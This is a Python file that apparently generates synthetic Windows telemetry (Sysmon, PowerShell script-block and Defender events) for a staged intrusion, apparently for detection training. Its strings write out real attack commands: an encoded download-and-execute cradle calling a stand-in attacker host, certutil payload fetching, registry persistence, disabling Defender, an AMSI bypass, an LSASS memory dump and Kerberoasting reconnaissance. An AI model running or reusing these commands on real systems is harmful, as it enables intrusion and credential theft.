"""What the intruder does on the workstation, in the order in which it happens.

08:52 a document runs PowerShell, which fetches a library and keeps it running; 08:56 Defender is switched
off; 09:05 passwords are read from memory.
"""

from __future__ import annotations

from base64 import b64encode
from datetime import datetime, timedelta
from uuid import UUID

from starter.story.cast import MIRA, SYSTEM, WORKSTATION, Diary, Process, at, hashes, start

SERVER, SERVER_NAME = "203.0.113.45", "cdn.parcel-status.example"
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
RUNDLL32, CMD = SYSTEM32 + "rundll32.exe", SYSTEM32 + "cmd.exe"
FIRST_SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('https://{SERVER_NAME}/s/3381')"
ENCODED = b64encode(FIRST_SCRIPT.encode("utf-16-le")).decode()
SWITCH_OFF = (
    "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\Users\\Public"
)


def _by(process: Process) -> dict[str, object]:
    return {
        "ProcessGuid": process.guid,
        "ProcessId": process.pid,
        "Image": process.image,
        "User": process.user,
    }


def _connect(diary: Diary, time: datetime, process: Process, port: int) -> None:
    diary.write(
        "connection",
        time,
        Protocol="tcp",
        Initiated=True,
        SourceIp=WORKSTATION.address,
        SourceHostname=WORKSTATION.name,
        SourcePort=diary.random.randrange(49200, 65000),
        DestinationIp=SERVER,
        DestinationHostname="-",
        DestinationPort=port,
        DestinationPortName="-",
        **_by(process),
    )


def sysmon(diary: Diary) -> None:
    """WS07 from the opened invoice to the stolen passwords."""
    mira = MIRA.account
    explorer = diary.process(r"C:\Windows\explorer.exe", user=mira)
    word = start(
        diary,
        at("08:51:58"),
        WORD,
        f'"{WORD}" /n "C:\\Users\\mira.holt\\Downloads\\Invoice-3381.docm"',
        explorer,
        mira,
    )
    shell = start(
        diary, at("08:52:41"), POWERSHELL, f"powershell.exe -NoP -W Hidden -enc {ENCODED}", word, mira
    )
    diary.write(
        "dns",
        at("08:52:43"),
        QueryName=SERVER_NAME,
        QueryStatus="0",
        QueryResults=f"::ffff:{SERVER};",
        **_by(shell),
    )
    _connect(diary, at("08:52:44"), shell, 443)
    _fetch_library(diary, shell)
    loader = start(
        diary, at("08:54:02"), RUNDLL32, r"rundll32.exe C:\Users\Public\upd.dll,Start", shell, mira, "High"
    )
    diary.write(
        "library",
        at("08:54:03"),
        ImageLoaded=r"C:\Users\Public\upd.dll",
        Hashes=hashes("upd.dll"),
        Signed="false",
        SignatureStatus="Unavailable",
        **_by(loader),
    )
    for beacon in range(48):
        _connect(
            diary, at("08:54:09") + timedelta(seconds=149 * beacon + diary.random.randrange(20)), loader, 8443
        )
    diary.write(
        "registry",
        at("08:55:20"),
        EventType="SetValue",
        Details=r"rundll32.exe C:\Users\Public\upd.dll,Start",
        TargetObject=f"HKU\\{MIRA.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ParcelHelper",
        **_by(loader),
    )
    _weaken_and_survey(diary, loader)
    _steal_passwords(diary, loader)


def _fetch_library(diary: Diary, shell: Process) -> None:
    certutil = SYSTEM32 + "certutil.exe"
    text, library = r"C:\Users\Public\upd.b64", r"C:\Users\Public\upd.dll"
    fetch = start(
        diary,
        at("08:53:30"),
        certutil,
        f"certutil.exe -urlcache -f http://{SERVER}/t/upd.b64 {text}",
        shell,
        shell.user,
    )
    _connect(diary, at("08:53:31"), fetch, 80)
    diary.write(
        "file", at("08:53:32"), TargetFilename=text, CreationUtcTime="2026-03-12 08:53:32.004", **_by(fetch)
    )
    decode = start(
        diary, at("08:53:50"), certutil, f"certutil.exe -decode {text} {library}", shell, shell.user
    )
    diary.write(
        "file",
        at("08:53:51"),
        TargetFilename=library,
        CreationUtcTime="2026-03-12 08:53:51.118",
        **_by(decode),
    )


def _weaken_and_survey(diary: Diary, loader: Process) -> None:
    start(
        diary, at("08:56:12"), POWERSHELL, f'powershell.exe -c "{SWITCH_OFF}"', loader, MIRA.account, "High"
    )
    defender = diary.process(r"C:\ProgramData\Microsoft\Windows Defender\Platform\MsMpEng.exe")
    diary.write(
        "registry",
        at("08:56:14"),
        EventType="SetValue",
        Details="DWORD (0x00000001)",
        TargetObject=r"HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection"
        r"\DisableRealtimeMonitoring",
        **_by(defender),
    )
    survey = (
        ("08:58:03", "whoami.exe", "whoami /all"),
        ("08:58:31", "net.exe", 'net group "Domain Admins" /domain'),
        ("08:58:32", "net1.exe", 'C:\\Windows\\system32\\net1 group "Domain Admins" /domain'),
        ("08:59:10", "nltest.exe", "nltest /domain_trusts /all_trusts"),
        ("08:59:44", "net.exe", "net localgroup administrators"),
    )
    for clock, program, command_line in survey:
        start(diary, at(clock), SYSTEM32 + program, command_line, loader, MIRA.account, "High")


def _steal_passwords(diary: Diary, loader: Process) -> None:
    public = r"C:\Users\Public\svchost.exe"
    false_service = start(diary, at("09:05:10"), public, f"{public} -m", loader, MIRA.account, "High")
    lsass = diary.process(SYSTEM32 + "lsass.exe")
    dumper = start(
        diary,
        at("09:06:02"),
        RUNDLL32,
        f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} "
        r"C:\Users\Public\lsass.dmp full",
        loader,
        MIRA.account,
        "High",
    )
    for source, clock, rights in ((false_service, "09:05:12", 0x1010), (dumper, "09:06:02.400000", 0x1FFFFF)):
        diary.write(
            "access",
            at(clock),
            SourceProcessGUID=source.guid,
            SourceProcessId=source.pid,
            SourceThreadId=4120,
            SourceImage=source.image,
            TargetProcessGUID=lsass.guid,
            TargetProcessId=lsass.pid,
            TargetImage=lsass.image,
            GrantedAccess=rights,
            CallTrace=r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|UNKNOWN(0000021F3A2C0F1D)",
            SourceUser=source.user,
            TargetUser=SYSTEM,
        )
    diary.write(
        "file",
        at("09:06:03"),
        TargetFilename=r"C:\Users\Public\lsass.dmp",
        CreationUtcTime="2026-03-12 09:06:03.220",
        **_by(dumper),
    )
    explorer = diary.process(r"C:\Windows\explorer.exe", user=MIRA.account)
    diary.write(
        "remote_thread",
        at("09:07:30"),
        SourceProcessGuid=loader.guid,
        SourceProcessId=loader.pid,
        SourceImage=loader.image,
        TargetProcessGuid=explorer.guid,
        TargetProcessId=explorer.pid,
        TargetImage=explorer.image,
        NewThreadId=7720,
        StartAddress="0x00000000030F0000",
        SourceUser=loader.user,
        TargetUser=explorer.user,
    )
    diary.write("pipe", at("09:07:31"), EventType="CreatePipe", PipeName=r"\msagent_1f", **_by(explorer))


def powershell(diary: Diary) -> None:
    """The same first minutes on WS07, as PowerShell wrote the decoded scripts down."""
    amsi = (
        "$t=[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils'); "
        "$t.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"
    )
    memory = (
        "$b=[Convert]::FromBase64String((Get-Content C:\\Users\\Public\\upd.b64 -Raw)); "
        "[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,@())"
    )
    search = (
        "$s=New-Object DirectoryServices.DirectorySearcher('(&(objectClass=user)(servicePrincipalName=*))'); "
        "$s.FindAll() | % { $_.Properties['samaccountname'] }"
    )
    for clock, text in (
        ("08:52:42", FIRST_SCRIPT),
        ("08:52:46", amsi),
        ("08:53:05", memory),
        ("08:56:13", SWITCH_OFF),
        ("09:14:20", search),
    ):
        diary.write(
            "script_block",
            at(clock),
            user_sid=MIRA.sid,
            MessageNumber=1,
            MessageTotal=1,
            ScriptBlockText=text,
            ScriptBlockId=str(UUID(int=diary.random.getrandbits(128))),
            Path="",
        )


def defender(diary: Diary) -> None:
    """Defender finds the document's helper, four minutes before it is switched off."""
    product = {"Product_Name": "Microsoft Defender Antivirus", "Product_Version": "4.18.26010.5"}
    diary.write(
        "malware_found",
        at("08:52:50"),
        Detection_ID="{5D7F1C2A-9B1E-4C57-8F6A-3B0A6E1F3381}",
        Detection_Time="2026-03-12T08:52:50.114Z",
        Threat_ID="2147894001",
        Threat_Name="Trojan:Script/HarborSample.A",
        Severity_ID="5",
        Severity_Name="Severe",
        Category_ID="8",
        Category_Name="Trojan",
        Status_Code="1",
        State="1",
        Source_ID="3",
        Source_Name="Real-Time Protection",
        Process_Name=POWERSHELL,
        Detection_User=MIRA.account,
        Path=r"file:_C:\Users\mira.holt\AppData\Local\Temp\3381.ps1",
        Action_ID="9",
        Action_Name="Not Applicable",
        Error_Code="0x00000000",
        **product,
    )
    diary.write(
        "configuration_changed",
        at("08:56:14"),
        Old_Value="",
        New_Value=(r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Users\Public = 0x0"),
        **product,
    )
    diary.write("protection_off", at("08:56:15"), **product)
